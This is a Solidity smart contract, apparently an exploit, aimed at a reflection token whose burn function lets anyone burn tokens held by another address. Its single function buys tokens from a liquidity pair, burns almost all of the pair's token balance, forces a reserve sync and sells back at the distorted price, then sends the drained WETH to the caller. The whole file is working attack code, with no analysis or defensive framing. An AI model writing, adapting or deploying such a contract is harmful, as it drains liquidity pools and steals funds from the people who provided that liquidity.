// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IToken {
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface IReflect is IToken {
    function burn(address from, uint256 value) external;
}

interface IPair {
    function swap(uint256 out0, uint256 out1, address to, bytes calldata data) external;
    function getReserves() external view returns (uint112, uint112, uint32);
    function sync() external;
}

/// Buys, burns what the pair has left, makes the pair notice, and sells the rest dear.
contract Shrink {
    IReflect private immutable rfl;
    IToken private immutable weth;
    IPair private immutable pair;

    constructor(IReflect rfl_, IToken weth_, IPair pair_) {
        (rfl, weth, pair) = (rfl_, weth_, pair_);
    }

    function go(uint256 buy) external {
        (uint112 r0, uint112 r1,) = pair.getReserves();
        uint256 paid = weth.balanceOf(address(this));
        weth.transfer(address(pair), paid);
        require(buy < uint256(r0) * paid * 997 / (uint256(r1) * 1000 + paid * 997));
        pair.swap(buy, 0, address(this), "");
        rfl.burn(address(pair), rfl.balanceOf(address(pair)) - 1000e9);
        pair.sync();
        (r0, r1,) = pair.getReserves();
        uint256 mine = rfl.balanceOf(address(this)) * 95 / 100;
        rfl.transfer(address(pair), mine);
        uint256 come = rfl.balanceOf(address(pair)) - r0;
        pair.swap(0, come * 990 * r1 / (uint256(r0) * 1000 + come * 997), address(this), "");
        weth.transfer(msg.sender, weth.balanceOf(address(this)));
    }
}
